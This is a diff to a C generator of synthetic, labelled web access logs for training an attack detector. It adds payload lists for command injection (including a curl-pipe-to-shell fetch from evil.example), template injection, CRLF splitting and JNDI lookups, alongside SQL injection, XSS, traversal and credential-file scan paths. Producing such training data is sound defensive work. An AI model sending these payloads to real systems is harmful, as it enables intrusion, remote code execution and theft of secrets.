@@ -1,8 +1,20 @@
 /* Synthetic web access logs (combined format) with ground truth: browsing
  * visitors who load a page and then its assets, crawlers, uptime monitors
  * using curl-like tools, normal 404s and the odd 500, a daily rhythm; plus
- * labelled attacks: vulnerability scanners, SQL injection, XSS and path
- * traversal probes, and password brute force on the login form.
+ * labelled attacks: path scanners (a quarter against a soft-404 site that
+ * answers every path 200 or redirects it: kind scanner_soft404), SQL injection, XSS, path
+ * traversal, command and template injection, CRLF and JNDI probes, crawling
+ * web scanners that mutate every parameter of every page they found (each
+ * of their lines is an attack line, the crawl too, as a truth written by
+ * source address has it), and password guessing on the login form (fast or
+ * slow, the failure answered 200 as often as 401).
+ *
+ * What it cannot imitate: payloads in POST bodies (a combined log has no
+ * body; a brute force or a form attack is seen by its rhythm only), how a
+ * real application answers a payload (sizes and codes here are drawn, not
+ * computed), a real tool's exact request order and timing, benign traffic
+ * of an application it does not model (APIs posting JSON, single-page apps),
+ * and attackers who pace themselves like people.
  *
  * Sessions interleave in time: a heap orders every active session (and the
  * next session arrival) by its next request time, so the file is in time
@@ -19,9 +31,10 @@
 #define MAX_ACTIVE 4096
 #define DAY 86400.0
 
-enum { K_BROWSE, K_CRAWLER, K_MONITOR, K_SCANNER, K_SQLI, K_XSS, K_TRAVERSAL, K_BRUTE, N_KINDS };
-static const char *const kind_names[N_KINDS] = { "normal", "normal", "normal", "scanner",
-                                                 "sqli", "xss", "traversal", "bruteforce" };
+enum { K_BROWSE, K_CRAWLER, K_MONITOR, K_SCANNER, K_SQLI, K_XSS, K_TRAVERSAL, K_INJECT, K_WEBSCAN, K_BRUTE, N_KINDS };
+#define N_ATTACK_KINDS (N_KINDS - K_SCANNER)
+static const char *const kind_names[N_KINDS] = { "normal", "normal", "normal", "scanner", "sqli", "xss",
+                                                 "traversal", "injection", "webscan", "bruteforce" };
 
 static const char *const browsers[] = {
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
@@ -44,14 +57,23 @@ static const char *const scanners[] = {
     "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
     "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
 };
-static const char *const brute_agents[] = { "python-requests/2.28.1", "Mozilla/4.0 (Hydra)", "Go-http-client/1.1" };
+static const char *const brute_agents[] = { "python-requests/2.28.1", "Mozilla/4.0 (Hydra)", "Go-http-client/1.1",
+                                            "Mozilla/5.0 (Hydra)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" };
+/* Crawling scanners: most send a browser-like agent (often an old one). */
+static const char *const webscan_agents[] = {
+    "Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0", "Arachni/v1.5.1",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0", "python-requests/2.25.1",
+    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
+};
 static const char *const words[] = { "shoes", "red+dress", "laptop", "men%27s+jacket", "rock+%26+roll", "usb-c",
                                      "o%27neill", "garden+chair", "kids", "sale", "4k+tv", "coffee",
                                      /* Benign non-ASCII and punctuation: UTF-8 and Latin-1 accents, CJK, a
                                       * percent sign, a plus, quotes (people search in every language). */
                                      "caf%C3%A9", "espa%F1a", "ni%C3%B1os", "M%FCller", "cr%C3%A8me+br%C3%BBl%C3%A9e",
                                      "%E4%B8%AD%E6%96%87", "50%25+off", "1%2B1", "%22red+dress%22", "size+%3E+42",
-                                     "S%C3%A3o+Paulo", "caf%E9+au+lait" };
+                                     "S%C3%A3o+Paulo", "caf%E9+au+lait", "c%2B%2B+book", "usb+(3.0)", "%F0%9F%8E%81+gift",
+                                     "t-shirt+%2F+polo", "100%25+cotton", "l%27or%C3%A9al", "%C3%9Cbergr%C3%B6%C3%9Fe",
+                                     "%D0%BA%D1%83%D1%80%D1%82%D0%BA%D0%B0", "rock+%26+roll;+live", "a%2Bb+%3D+c" };
 static const char *const categories[] = { "women", "men", "kids", "home", "electronics", "sport", "outlet" };
 static const char *const scan_paths[] = {
     "/admin", "/admin/", "/administrator/", "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/",
@@ -62,6 +84,11 @@ static const char *const scan_paths[] = {
     "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/", "/jenkins/", "/manager/html",
     "/.aws/credentials", "/id_rsa", "/dump.tar.gz", "/site.tgz", "/logs/error.log", "/cgi-bin/.%2e/.%2e/bin/sh",
 };
+/* Word-list probes: a word and an extension, as dirb-like tools build them. */
+static const char *const scan_words[] = { "admin", "backup", "test", "old", "data", "db", "private", "tmp", "logs",
+                                          "images2", "cgi", "api", "dev", "staging", "files", "secret", "users",
+                                          "download", "upload", "include", "lib", "conf", "install", "panel" };
+static const char *const scan_exts[] = { "", "/", ".php", ".bak", ".old", ".txt", ".html", ".zip", ".asp", "~" };
 static const char *const sqli[] = {
     "1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1' AND SLEEP(5)--", "1;DROP TABLE users--",
     "1' AND 1=1--", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "' OR 1=1#", "1' ORDER BY 3--",
@@ -83,6 +110,41 @@ static const char *const traversal[] = {
     "../../../../proc/self/environ", "/etc/passwd%00.png", "..%5c..%5c..%5cboot.ini",
     "file:///etc/hosts",
 };
+/* Command injection, template injection, CRLF (header splitting) and JNDI
+ * lookups, as tools send them ('%' passes the encoder: some arrive encoded). */
+static const char *const cmdi[] = {
+    ";id", "| id", "|| whoami", "&& cat /etc/passwd", "`uname -a`", "$(sleep 5)", ";ping -c 3 127.0.0.1",
+    "a;ls -la /", "| nslookup x.evil.example", "%0aid", "; curl http://evil.example/x.sh | sh", "1|echo vg$((7*7))",
+    "& ping -n 3 127.0.0.1 &", ";${IFS}cat${IFS}/etc/passwd", "1;sleep 5;", "|type c:\\windows\\win.ini",
+};
+static const char *const ssti[] = {
+    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__.__init__.__globals__}}", "{% print(7*7) %}",
+    "*{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "{{request.application.__globals__.__builtins__}}",
+};
+static const char *const crlf[] = {
+    "%0d%0aSet-Cookie:vg=1", "%0D%0ALocation:%20http://evil.example/", "x%0d%0a%0d%0a<script>alert(1)</script>",
+    "%0aX-Injected:%201", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "%250d%250aSet-Cookie:x=1",
+};
+static const char *const jndi[] = {
+    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://x.evil.example/a}",
+    "${jndi:rmi://evil.example:1099/x}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x.evil.example/a}",
+    "${jndi:dns://x.evil.example}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.evil.example/a}",
+};
+static const char *const inject_names[] = { "cmdi", "ssti", "crlf", "jndi" };
+/* Pages with parameters a crawling scanner finds and mutates one at a time. */
+static const struct {
+    const char *path, *names[3], *values[3];
+} forms[] = {
+    { "/products", { "id", "sort" }, { "1042", "price" } },
+    { "/search", { "q", "page" }, { "shoes", "1" } },
+    { "/api/items", { "id", "fields" }, { "77", "name,price" } },
+    { "/cart", { "id", "qty" }, { "3", "1" } },
+    { "/news", { "article", "lang" }, { "12", "en" } },
+    { "/view", { "page" }, { "about" } },
+    { "/download", { "file" }, { "manual.pdf" } },
+    { "/account/orders", { "from", "to", "status" }, { "2025-01-01", "2025-12-31", "open" } },
+};
 static const char *const traversal_targets[] = { "/download?file=", "/static/", "/view?page=", "/image?path=" };
 static const char *const injection_targets[] = { "/products?id=", "/search?q=", "/api/items?id=", "/news?article=" };
 static const char *const login_paths[] = { "/login", "/wp-login.php", "/admin/login", "/user/signin" };
@@ -94,6 +156,11 @@ typedef struct session {
     const char *ua;
     char page[160];       /* the page being viewed: the referer of its assets */
     int target;           /* attack: which endpoint or login path */
+    int family;           /* injection: cmdi, ssti, crlf, jndi; web scan: the family being tried */
+    int crawl;            /* web scan: crawl requests left before the attacks */
+    int form, param, tries; /* web scan: the page, parameter and payloads left for it */
+    int soft;             /* path scan against a soft-404 site (every path 200 or a redirect) */
+    double pace;          /* mean seconds between requests (attack tools) */
 } session;
 
 typedef struct gen {
@@ -106,7 +173,7 @@ typedef struct gen {
     char (*client_ip)[48];
     uint8_t *client_ua;
     size_t n_clients;
-    uint32_t bag[5];
+    uint32_t bag[N_ATTACK_KINDS];
     size_t bag_n;
 } gen;
 
@@ -203,6 +270,7 @@ static void encode(gen *g, const char *p, char *buf, size_t cap)
 static void emit(gen *g, const session *s, const char *method, const char *uri, int status, unsigned bytes,
                  const char *referer)
 {
+    const char *kind = s->kind == K_INJECT ? inject_names[s->family] : s->soft ? "scanner_soft404" : kind_names[s->kind];
     time_t t = (time_t)s->next;
     struct tm tm;
     gmtime_r(&t, &tm);
@@ -213,7 +281,7 @@ static void emit(gen *g, const session *s, const char *method, const char *uri, 
             referer ? referer : "-", s->ua ? s->ua : "-");
     if (s->kind >= K_SCANNER) {
         g->attack_lines++;
-        if (g->truth) fprintf(g->truth, "%zu,%s\n", g->written, kind_names[s->kind]);
+        if (g->truth) fprintf(g->truth, "%zu,%s\n", g->written, kind);
     }
 }
 
@@ -230,6 +298,40 @@ static void new_page(gen *g, session *s)
     else if (r < 94) snprintf(s->page, sizeof s->page, "/account");
     else if (r < 97) snprintf(s->page, sizeof s->page, "/about");
     else snprintf(s->page, sizeof s->page, "/login");
+}
+
+/* A crawling scanner's attack: parameter s->param of page s->form gets a
+ * payload of family s->family (replacing its value or appended to it), the
+ * other parameters keep theirs; a few payloads per parameter, then the next
+ * parameter, then the next page. Most answers are 200: the page ignores the
+ * junk. Some attacks go to a form by POST (the payload in the body, which
+ * the log does not show). */
+static int webscan_probe(gen *g, session *s)
+{
+    char uri[600], payload[400];
+    if (s->tries-- <= 0) {
+        s->tries = 2 + (int)vg_rng_below(&g->rng, 8);
+        s->family = (int)vg_rng_below(&g->rng, 6);
+        if (++s->param >= 3 || forms[s->form].names[s->param] == NULL)
+            s->param = 0, s->form = (int)vg_rng_below(&g->rng, (uint32_t)N(forms));
+    }
+    const char *p = s->family == 0 ? PICK(g, sqli) : s->family == 1 ? PICK(g, xss) : s->family == 2 ? PICK(g, traversal)
+                  : s->family == 3 ? PICK(g, cmdi) : s->family == 4 ? PICK(g, crlf) : PICK(g, ssti);
+    encode(g, p, payload, sizeof payload);
+    int st = chance(g, 0.75) ? 200 : chance(g, 0.4) ? 500 : chance(g, 0.5) ? 400 : 404;
+    unsigned bytes = st == 200 ? 4000 + vg_rng_below(&g->rng, 20000) : 200 + vg_rng_below(&g->rng, 400);
+    if (chance(g, 0.12)) {
+        emit(g, s, "POST", chance(g, 0.5) ? "/login" : "/contact", st, bytes, "https://shop.example.com/");
+    } else {
+        size_t w = (size_t)snprintf(uri, sizeof uri, "%s?", forms[s->form].path);
+        int append = chance(g, 0.3);
+        for (int k = 0; k < 3 && forms[s->form].names[k] && w < sizeof uri; k++)
+            w += (size_t)snprintf(uri + w, sizeof uri - w, "%s%s=%s%s", k ? "&" : "", forms[s->form].names[k],
+                                  k == s->param && !append ? "" : forms[s->form].values[k], k == s->param ? payload : "");
+        emit(g, s, "GET", uri, st, bytes, chance(g, 0.4) ? "https://shop.example.com/" : NULL);
+    }
+    s->next += expo(g, s->pace);
+    return 1;
 }
 
 /* One request of session s; returns 0 when the session is over. */
@@ -292,27 +394,39 @@ static int step(gen *g, session *s)
     case K_SCANNER:
         if (s->remaining-- <= 0) return 0;
         snprintf(uri, sizeof uri, "%s", PICK(g, scan_paths));
-        /* Probes of paths that do not exist: mostly 404 (a soft-404 site
-         * answering 200 is imitated by the injection kinds, not here: tried,
-         * it taught the model that a burst of 404s means nothing, and dirb
-         * against a real nginx went from 100% to 26% caught). */
+        /* Probes of paths that do not exist: mostly 404, or, on a soft-404
+         * site, all 200 (one page) or all 302. An earlier try made every
+         * scan soft and taught the model that a burst of 404s means nothing
+         * (dirb against a real nginx fell from 100% to 26% caught); a
+         * quarter of the scans keeps both lessons. */
         st = chance(g, 0.8) ? 404 : chance(g, 0.5) ? 403 : chance(g, 0.7) ? 200 : 301;
-        emit(g, s, chance(g, 0.9) ? "GET" : "HEAD", uri, st, st == 404 ? 153 + vg_rng_below(&g->rng, 40) : 300, NULL);
-        s->next += uni(g, 0.02, 0.3);
+        unsigned bytes = st == 404 ? 153 + vg_rng_below(&g->rng, 40) : 300;
+        if (s->soft) {
+            /* A soft-404 site: the home page (one size) or a redirect to it. */
+            if (s->soft == 1) st = 200, bytes = 8142;
+            else st = 302, bytes = 154;
+        }
+        if (chance(g, 0.3)) snprintf(uri, sizeof uri, "/%s%s", PICK(g, scan_words), PICK(g, scan_exts));
+        emit(g, s, chance(g, 0.9) ? "GET" : "HEAD", uri, st, bytes, NULL);
+        s->next += uni(g, 0.2, 1.8) * s->pace;
         return 1;
     case K_SQLI:
     case K_XSS:
-    case K_TRAVERSAL: {
+    case K_TRAVERSAL:
+    case K_INJECT: {
         if (s->remaining-- <= 0) return 0;
         /* Probes are interleaved with ordinary requests to the same site,
          * but only the probes themselves are labelled as attacks. */
-        const char *p = s->kind == K_SQLI ? PICK(g, sqli) : s->kind == K_XSS ? PICK(g, xss) : PICK(g, traversal);
+        const char *p = s->kind == K_SQLI ? PICK(g, sqli) : s->kind == K_XSS ? PICK(g, xss)
+                      : s->kind == K_TRAVERSAL ? PICK(g, traversal) : s->family == 0 ? PICK(g, cmdi)
+                      : s->family == 1 ? PICK(g, ssti) : s->family == 2 ? PICK(g, crlf) : PICK(g, jndi);
         encode(g, p, payload, sizeof payload);
         const char *base = s->kind == K_TRAVERSAL ? traversal_targets[s->target % N(traversal_targets)]
                                                   : injection_targets[s->target % N(injection_targets)];
         /* Injection tools also put the payload in the User-Agent or the
          * Referer (sqlmap from --level 3): the URL then carries a plain value. */
-        int where = s->kind == K_TRAVERSAL ? 0 : chance(g, 0.12) ? 1 : chance(g, 0.08) ? 2 : 0;
+        int where = s->kind == K_TRAVERSAL ? 0 : chance(g, s->kind == K_INJECT && s->family == 3 ? 0.5 : 0.12) ? 1
+                  : chance(g, 0.08) ? 2 : 0;
         char agent[512], referer[512];
         snprintf(uri, sizeof uri, "%s%s", base, where ? "1" : payload);
         if (where == 1) {  /* nginx writes a '"' of a header as \x22 */
@@ -322,7 +436,7 @@ static int step(gen *g, session *s)
             agent[w] = '\0';
         }
         if (where == 2) snprintf(referer, sizeof referer, "https://shop.example.com/?q=%s", payload);
-        st = chance(g, 0.5) ? 200 : s->kind == K_SQLI ? (chance(g, 0.5) ? 500 : 403)
+        st = chance(g, 0.5) ? 200 : s->kind == K_SQLI || s->kind == K_INJECT ? (chance(g, 0.5) ? 500 : 403)
            : s->kind == K_XSS ? (chance(g, 0.5) ? 403 : 400) : (chance(g, 0.4) ? 400 : chance(g, 0.5) ? 404 : 403);
         session tmp = *s;
         if (where == 1) tmp.ua = agent;
@@ -331,13 +445,27 @@ static int step(gen *g, session *s)
         s->next += strstr(s->ua, "sqlmap") ? uni(g, 0.05, 0.5) : uni(g, 0.5, 6);
         return 1;
     }
+    case K_WEBSCAN:
+        if (s->remaining-- <= 0) return 0;
+        if (s->crawl > 0) {  /* the crawl: pages and the links on them, fast, answered 200 */
+            s->crawl--;
+            new_page(g, s);
+            int robots = chance(g, 0.05);
+            emit(g, s, "GET", robots ? "/robots.txt" : s->page, robots && chance(g, 0.5) ? 404 : 200,
+                 5000 + vg_rng_below(&g->rng, 30000), chance(g, 0.5) ? "https://shop.example.com/" : NULL);
+            s->next += expo(g, s->pace);
+            return 1;
+        }
+        return webscan_probe(g, s);
     case K_BRUTE:
         if (s->remaining-- <= 0) return 0;
+        /* Parallel guessers (hydra's tasks) fire many a second, others one
+         * every second or two: s->pace. */
         /* Many login forms answer a wrong password with 200 and the form again. */
         st = s->remaining == 0 && chance(g, 0.3) ? 302 : s->target % 2 ? 200 : 401;
         snprintf(ref, sizeof ref, "https://shop.example.com%s", login_paths[s->target % N(login_paths)]);
         emit(g, s, "POST", login_paths[s->target % N(login_paths)], st, st == 302 ? 0 : 1840, chance(g, 0.5) ? ref : NULL);
-        s->next += uni(g, 0.1, 1.5);
+        s->next += expo(g, s->pace);
         return 1;
     }
     return 0;
@@ -364,17 +492,32 @@ static void start_session(gen *g, double t)
         /* Kinds drawn from a shuffled bag of all five, so even a short log
          * holds every kind. */
         if (g->bag_n == 0) {
-            for (uint32_t k = 0; k < 5; k++) g->bag[k] = K_SCANNER + k;
-            vg_rng_shuffle_u32(&g->rng, g->bag, 5);
-            g->bag_n = 5;
+            for (uint32_t k = 0; k < N_ATTACK_KINDS; k++) g->bag[k] = K_SCANNER + k;
+            vg_rng_shuffle_u32(&g->rng, g->bag, N_ATTACK_KINDS);
+            g->bag_n = N_ATTACK_KINDS;
         }
         s.kind = (int)g->bag[--g->bag_n];
         random_ip(g, s.ip, sizeof s.ip);
         s.target = (int)vg_rng_below(&g->rng, 16);
         switch (s.kind) {
         case K_SCANNER:
-            s.ua = chance(g, 0.7) ? PICK(g, scanners) : PICK(g, browsers);
+            s.ua = chance(g, 0.6) ? PICK(g, scanners) : chance(g, 0.5) ? PICK(g, browsers)
+                 : "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)";
             s.remaining = 20 + (int)vg_rng_below(&g->rng, 120);
+            s.soft = chance(g, 0.25) ? 1 + (int)vg_rng_below(&g->rng, 2) : 0;
+            s.pace = chance(g, 0.5) ? 0.02 : 0.15;
+            break;
+        case K_INJECT:
+            s.ua = chance(g, 0.3) ? "python-requests/2.31.0" : chance(g, 0.3) ? "curl/8.5.0" : PICK(g, browsers);
+            s.family = (int)vg_rng_below(&g->rng, 4);
+            s.remaining = 8 + (int)vg_rng_below(&g->rng, 40);
+            break;
+        case K_WEBSCAN:
+            s.ua = PICK(g, webscan_agents);
+            s.crawl = 3 + (int)vg_rng_below(&g->rng, 25);
+            s.remaining = s.crawl + 30 + (int)vg_rng_below(&g->rng, 200);
+            s.form = (int)vg_rng_below(&g->rng, (uint32_t)N(forms));
+            s.pace = chance(g, 0.5) ? 0.03 : 0.3;
             break;
         case K_SQLI:
             s.ua = chance(g, 0.4) ? "sqlmap/1.7.2#stable (https://sqlmap.org)" : PICK(g, browsers);
@@ -387,7 +530,8 @@ static void start_session(gen *g, double t)
             break;
         default:
             s.ua = chance(g, 0.6) ? PICK(g, brute_agents) : PICK(g, browsers);
-            s.remaining = 30 + (int)vg_rng_below(&g->rng, 120);
+            s.remaining = 30 + (int)vg_rng_below(&g->rng, 300);
+            s.pace = chance(g, 0.5) ? uni(g, 0.01, 0.1) : uni(g, 0.3, 1.5);
             break;
         }
     } else {
@@ -454,7 +598,8 @@ static vg_status weblog_write(FILE *out, const vg_synth_params *p)
 const vg_synth_generator vg_synth_weblog = {
     .format = &vg_format_weblog,
     .summary = "combined-format web access log: visitors with page assets, crawlers, monitors, normal "
-               "404s; attacks: scanner, sqli, xss, traversal, bruteforce (label them with --truth and "
-               "train with --labels)",
+               "404s; attacks: scanner (some against a soft-404 site), sqli, xss, traversal, cmdi, ssti, "
+               "crlf, jndi, webscan (crawl, then every parameter mutated), bruteforce (label them with "
+               "--truth and train with --labels)",
     .write = weblog_write,
 };
